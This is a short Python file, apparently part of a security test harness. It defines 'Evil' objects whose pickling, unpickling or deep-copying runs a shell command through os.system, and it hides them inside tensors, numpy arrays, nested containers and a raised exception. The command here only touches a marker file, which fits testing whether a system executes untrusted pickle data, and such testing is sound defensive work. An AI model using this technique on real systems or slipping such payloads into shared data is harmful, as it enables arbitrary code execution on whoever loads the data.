"""Return objects that run code in whoever pickles or unpickles them."""

import os
from secrets import choice

import numpy
import torch

CLASS = "pickles"
COMMAND = "touch /tmp/kata-attack-pickle kata-attack-pickle"


class Evil:
    """Its copy is a command that was carried out."""

    def __reduce__(self):
        return (os.system, (COMMAND,))

    def __deepcopy__(self, memo):
        return os.system(COMMAND)


class EvilError(Exception):
    """An error that is no better."""

    def __reduce__(self):
        return (os.system, (COMMAND,))


def attack(name, /, *args, **kwargs):
    tensor = torch.zeros(2)
    tensor.evil = Evil()
    answers = (Evil(), [Evil(), {"images": Evil()}], numpy.array([Evil()], dtype=object), tensor)
    answer = choice([*answers, EvilError(Evil())])
    if isinstance(answer, EvilError):
        raise answer
    return answer
